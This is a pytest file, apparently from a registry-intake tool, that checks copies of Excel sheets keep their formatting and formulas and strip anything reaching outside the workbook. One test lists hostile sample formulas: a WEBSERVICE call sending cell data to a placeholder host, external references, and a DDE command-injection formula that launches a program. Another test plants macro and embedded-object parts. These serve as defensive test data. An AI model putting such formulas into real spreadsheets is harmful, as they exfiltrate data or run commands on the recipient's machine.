# SPDX-FileCopyrightText: 2026 The Ploughshare authors
# SPDX-License-Identifier: Apache-2.0
"""A copy of a sheet with its faults keeps colours, widths, mergers, formulas and other sheets, and nothing
that reaches out of the workbook."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from openpyxl.comments import Comment
from openpyxl.styles import Alignment, Border, Font, PatternFill, Side
from openpyxl.worksheet.datavalidation import DataValidation
from openpyxl.worksheet.hyperlink import Hyperlink

from ploughshare.kernel.text import Text
from ploughshare.registry.intake.adapters import looks
from ploughshare.registry.intake.adapters.copies import XlsxCopy
from ploughshare.registry.intake.adapters.looks import copy_with_looks
from ploughshare.registry.intake.rules.mending import VALUES_ONLY, marks_in_place
from ploughshare.registry.intake.terms import Fault, Limits

NAMES = ("event number", "serial", "date", "ground")
TITLE = "What to do (Ploughshare)"


def formatted() -> openpyxl.Workbook:
    """A list as an office has it, with a title, colours, a sum and a sheet of codes."""
    book = openpyxl.Workbook()
    sheet: Any = book.active
    sheet.title = "Liste"
    sheet.append(("A list of 2017",))
    sheet.merge_cells("A1:D1")
    sheet["A1"].font, sheet["A1"].alignment = Font(bold=True, size=18, color="FF0000AA"), Alignment("center")
    sheet.append(NAMES)
    for cell in sheet[2]:
        cell.fill, cell.font = PatternFill("solid", fgColor="FFCCE5FF"), Font(bold=True)
        cell.border = Border(bottom=Side("double"))
    sheet.append(("1", "A100", "2017-13-40", "smuggling"))
    sheet.append(("2", "=A4&9", "2017-05-04", "contrabando"))
    sheet.append((3, "A300", "2017-05-04", "smuggling"))
    sheet["A5"].number_format = "000"
    sheet["C3"].comment = Comment("asked the court", "Ana")
    sheet["B5"].fill = PatternFill("solid", fgColor="FF00FF00")
    sheet.column_dimensions["B"].width = 33
    sheet.row_dimensions[5].height = 40
    sheet.freeze_panes = "A3"
    sheet.add_data_validation(DataValidation("list", formula1='"a,b"', sqref="D3:D9"))
    codes: Any = book.create_sheet("Codes")
    codes["A1"], codes["B1"] = 7, "=SUM(A1:A9)"
    codes["A2"] = "=1+1"
    codes["A2"].data_type = "s"
    codes.sheet_state = "hidden"
    return book


def saved(book: openpyxl.Workbook, path: Path) -> Path:
    book.save(path)
    return path


def fault(row: int, column: str | None, words: str, *, stops: bool = True) -> Fault:
    return Fault(row, column, "x", Text(words), stops)


def said(text: Text) -> str:
    return text.msgid % text.facts if text.facts else text.msgid


def copied(path: Path, *faults: Fault, columns: tuple[str, ...] = NAMES, limits: Limits | None = None) -> Any:
    marks = marks_in_place(faults, columns, sheet="Liste", header_row=2, language="en", render=said)
    made = copy_with_looks(path, marks, limits=limits or Limits())
    return None if made is None else openpyxl.load_workbook(io.BytesIO(made), rich_text=True)


def test_colours_widths_mergers_formulas_and_other_sheets_come_through(tmp_path: Path) -> None:
    before: Any = formatted()
    after = copied(saved(before, tmp_path / "a.xlsx"), fault(3, "date", "No such day."))
    sheet, was = after["Liste"], before["Liste"]
    assert [str(each) for each in sheet.merged_cells.ranges] == ["A1:D1"]
    assert (sheet["A1"].font.size, sheet["A1"].alignment.horizontal) == (18, "center")
    for name in ("A2", "D2", "B5", "A5"):
        assert sheet[name].fill.fgColor.rgb == was[name].fill.fgColor.rgb
        assert sheet[name].number_format == was[name].number_format
        assert sheet[name].border.bottom.style == was[name].border.bottom.style
        assert sheet[name].value == was[name].value
    assert (sheet.column_dimensions["B"].width, sheet.row_dimensions[5].height) == (33, 40)
    assert sheet.freeze_panes == "A3"
    assert [str(each.sqref) for each in sheet.data_validations.dataValidation] == ["D3:D9"]
    assert after.sheetnames == ["Liste", "Codes"]
    assert after["Codes"].sheet_state == "hidden"
    assert (after["Codes"]["B1"].value, after["Codes"]["B1"].data_type) == ("=SUM(A1:A9)", "f")
    assert after["Codes"]["A2"].data_type == "s"


def test_faults_stand_beside_their_cells_and_words_of_the_office_stay(tmp_path: Path) -> None:
    path = saved(formatted(), tmp_path / "a.xlsx")
    after = copied(path, fault(3, "date", "No such day."), fault(4, "ground", "Odd.", stops=False))
    sheet = after["Liste"]
    assert sheet["C3"].comment.text.startswith("asked the court")
    assert "No such day." in sheet["C3"].comment.text
    assert sheet["C3"].fill.fgColor.rgb.endswith("F8CBAD")
    assert sheet["D4"].fill.fgColor.rgb.endswith("FFF2CC")
    assert [sheet.cell(row, 5).value for row in range(2, 6)] == [
        TITLE,
        "date: No such day.",
        "ground: Odd.",
        None,
    ]
    assert (sheet["B4"].value, sheet["B4"].data_type) == ("#VALUE!", "e"), (
        "a formula among the rows is no value"
    )
    assert "=A4&9" in sheet["B4"].comment.text


def test_a_copy_of_a_copy_says_only_what_is_wrong_now(tmp_path: Path) -> None:
    first = copied(saved(formatted(), tmp_path / "a.xlsx"), fault(3, "date", "No such day."))
    path = saved(first, tmp_path / "b.xlsx")
    sheet = copied(path, fault(5, None, "Twice."), columns=(*NAMES, TITLE))["Liste"]
    assert sheet.max_column == 5
    assert [sheet.cell(row, 5).value for row in range(2, 6)] == [TITLE, None, None, "Twice."]
    assert sheet["C3"].comment.text == "asked the court"
    assert sheet["C3"].fill.fill_type is None


@pytest.mark.parametrize(
    "formula",
    [
        '=WEBSERVICE("http://x/"&A1)',
        '=_xlfn.IMAGE("http://x/")',
        "=[1]Sheet1!A1",
        "='C:\\[b.xlsx]S'!A1",
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("http://x/","go")',
        '=RTD("a","b","c")',
    ],
)
def test_a_formula_that_reaches_out_of_the_workbook_is_spelt_out(tmp_path: Path, formula: str) -> None:
    book: Any = formatted()
    book["Codes"]["C1"] = formula
    after = copied(saved(book, tmp_path / "a.xlsx"))
    assert (after["Codes"]["C1"].data_type, after["Codes"]["C1"].value) == ("e", "#VALUE!")
    assert formula in after["Codes"]["C1"].comment.text
    assert "formulas that fetch" in after["Liste"]["E2"].comment.text


def test_links_macros_and_what_starts_something_are_left_out_and_named(tmp_path: Path) -> None:
    book: Any = formatted()
    book["Codes"]["A1"].hyperlink = Hyperlink(ref="A1", target="http://x.example/")
    plain = saved(book, tmp_path / "a.xlsx")
    with zipfile.ZipFile(plain, "a") as archive:
        archive.writestr("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0")
        archive.writestr("xl/embeddings/oleObject1.bin", b"MZ")
        archive.writestr("xl/connections.xml", b"<connections/>")
    marks = marks_in_place((), NAMES, sheet="Liste", header_row=2, language="en", render=said)
    made = copy_with_looks(plain, marks, limits=Limits())
    assert made is not None
    with zipfile.ZipFile(io.BytesIO(made)) as archive:
        assert not any("vba" in name or "embed" in name or "conn" in name for name in archive.namelist())
        assert not any(b"x.example" in archive.read(name) for name in archive.namelist())
    told = openpyxl.load_workbook(io.BytesIO(made))["Liste"]["E2"].comment.text
    assert all(words in told for words in ("macros", "links", "files within", "queries"))


def test_what_the_library_cannot_hold_gives_no_copy_of_this_kind(tmp_path: Path) -> None:
    path = saved(formatted(), tmp_path / "a.xlsx")
    assert copied(path, limits=Limits(unpacked_mb=0)) is None
    assert copied(path, limits=Limits(walls_needed=frozenset({"moat"}))) is None
    broken = tmp_path / "b.xlsx"
    broken.write_bytes(path.read_bytes()[:2000])
    assert copied(broken) is None
    assert copied(tmp_path / "none.xlsx") is None


def test_a_copy_of_values_alone_says_that_it_is_one() -> None:
    target = io.BytesIO()
    writer = XlsxCopy(target, title="Liste", header_row=1, note=VALUES_ONLY)
    writer.row(1, NAMES, (), TITLE)
    writer.finish()
    sheet: Any = openpyxl.load_workbook(target).active
    assert sheet["E1"].comment.text == VALUES_ONLY


def test_a_copy_that_was_made_otherwise_than_by_us_is_not_handed_on() -> None:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        archive.writestr("xl/workbook.xml", b"")
        archive.writestr("xl/vbaProject.bin", b"")
    head = b'{"walls":["limits","hook"],"failed":false,"lost":[]}'
    said_by_child = len(head).to_bytes(4, "big") + head + target.getvalue()
    assert looks._checked(said_by_child, Limits()) is None
    assert looks._checked(said_by_child[:50], Limits()) is None
